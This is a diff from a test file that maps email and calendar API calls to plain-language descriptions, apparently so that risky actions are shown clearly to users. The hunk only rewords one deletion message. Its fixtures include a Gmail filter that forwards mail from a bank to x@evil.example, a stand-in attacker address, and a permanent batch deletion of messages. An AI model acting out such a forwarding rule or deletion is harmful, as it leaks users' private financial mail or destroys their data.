@@ -159,7 +159,7 @@ test.each<[BuiltinName, string, JsonObject | undefined, string]>([
     { criteria: { from: 'bank' }, action: { forward: 'x@evil.example' } },
     'create a filter for mail from bank, which forwards to x@evil.example',
   ],
-  ['gmail', 'POST /gmail/v1/users/me/messages/batchDelete', { ids: ['1', '2', '3'] }, 'delete 3 messages for good'],
+  ['gmail', 'POST /gmail/v1/users/me/messages/batchDelete', { ids: ['1', '2', '3'] }, 'delete 3 messages permanently'],
   [
     'google-calendar',
     'POST /calendars/primary/events',
